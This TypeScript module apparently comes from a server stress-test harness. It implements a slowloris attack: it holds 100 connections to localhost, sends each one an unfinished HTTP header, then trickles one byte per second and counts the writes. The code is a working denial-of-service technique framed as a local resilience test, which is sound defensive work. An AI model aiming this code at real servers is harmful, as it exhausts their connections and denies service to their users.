import type { Attack } from '../attack.js';
import { hold } from './connections.js';

const WRITERS = 100;
const OCTET_MS = 1000;

/** Sends requests whose header never ends (slowloris). */
export const slowWriters: Attack = {
  name: 'slow writers',
  atLeast: 1,
  begin() {
    let writes = 0;
    hold(WRITERS, (socket) => {
      writes++;
      socket.write('GET / HTTP/1.1\r\nHost: localhost\r\nX-');
      socket.resume();
      const timer = setInterval(() => socket.write('x', () => writes++), OCTET_MS);
      socket.on('close', () => clearInterval(timer));
    });
    return () => writes;
  },
};
